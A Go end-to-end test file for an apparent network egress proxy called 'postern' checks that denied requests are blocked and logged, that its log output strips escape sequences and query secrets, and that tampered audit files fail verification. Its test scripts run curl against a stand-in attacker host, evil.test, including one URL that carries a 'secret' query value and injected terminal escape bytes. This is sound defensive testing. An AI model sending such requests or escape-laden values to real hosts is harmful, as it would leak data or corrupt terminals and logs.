package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestEveryArrivalHasExactlyOneRecordThatAllowedIt joins the sink with the audit log: nothing arrives unrecorded, nothing is recorded
// as allowed that did not arrive, and every refusal is there once.
func TestEveryArrivalHasExactlyOneRecordThatAllowedIt(t *testing.T) {
	everyUser(t, func(t *testing.T, w *world) {
		var script strings.Builder
		for i := range 10 {
			fmt.Fprintf(&script, "curl -sS -o /dev/null https://echo.test/a%d https://open.test/b%d https://evil.test/c%d https://readonly.test/private/d%d\n", i, i, i, i)
		}
		ok(t, w.Run(t, "sh", "-c", script.String()))
		arrived, allowed, outcomes, denied := map[string]int{}, map[string]int{}, map[string]int{}, map[string]int{}
		for _, r := range w.Log.All() {
			arrived[r.Server+r.Target]++
		}
		for _, r := range w.House.Audit(t) {
			key := r.Text("host") + r.Text("path")
			switch {
			case r.Text("action") != "request":
			case r.Text("verdict") == "allow":
				allowed[key]++
			case r.Text("verdict") == "deny":
				denied[key]++
			case r.Text("kind") == "outcome":
				outcomes[key]++
			}
		}
		for i := range 10 {
			for _, key := range []string{fmt.Sprintf("echo.test/a%d", i), fmt.Sprintf("open.test/b%d", i)} {
				if arrived[key] != 1 || allowed[key] != 1 || outcomes[key] != 1 {
					t.Errorf("%s: arrived %d times, allowed %d, outcomes %d", key, arrived[key], allowed[key], outcomes[key])
				}
			}
			for _, key := range []string{fmt.Sprintf("evil.test/c%d", i), fmt.Sprintf("readonly.test/private/d%d", i)} {
				if arrived[key] != 0 || denied[key] != 1 {
					t.Errorf("%s: arrived %d times, denied %d", key, arrived[key], denied[key])
				}
			}
		}
		if len(arrived) != 20 || len(allowed) != 20 {
			t.Errorf("%d different requests arrived and %d were allowed, want 20", len(arrived), len(allowed))
		}
	})
}

func TestTheLogIsVerifiedExplainedAndEscaped(t *testing.T) {
	everyUser(t, func(t *testing.T, w *world) {
		refused := w.Run(t, "curl", "-sS", "https://evil.test/a%1b%5d0;title%07?secret=in-the-query")
		var event string
		for _, r := range w.House.Audit(t) {
			if r.Text("verdict") == "deny" {
				event = r.Text("event")
			}
		}
		if event == "" || !strings.Contains(refused.Stdout, event) {
			t.Errorf("the refusal does not name its event %q: %s", event, refused.Stdout)
		}
		dir := filepath.Join(w.State, "audit")
		shown := ok(t, w.Postern(t, nil, "log", "--dir", dir, "--denied"))
		if !strings.Contains(shown.Stdout, "evil.test") || strings.ContainsAny(shown.Stdout, "\x1b\x07\u009b") || strings.Contains(shown.Stdout, "in-the-query") {
			t.Errorf("postern log: %q", shown.Stdout)
		}
		if why := ok(t, w.Postern(t, nil, "explain", "--dir", dir, event)); !strings.Contains(why.Stdout, "path.malformed") {
			t.Errorf("postern explain: %s", why.Stdout)
		}
		ok(t, w.Postern(t, nil, "audit", "verify", dir))
		for _, name := range w.AuditFiles(t) {
			if filepath.Base(name) == "ledger.jsonl" {
				continue
			}
			b, err := os.ReadFile(name)
			if err != nil {
				t.Fatal(err)
			}
			changed := strings.Replace(string(b), "evil.test", "good.test", 1)
			if err := os.WriteFile(name, []byte(changed), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		if r := w.Postern(t, nil, "audit", "verify", dir); r.Exit == 0 {
			t.Errorf("a changed record was not found: %s", r.Stdout)
		}
	})
}
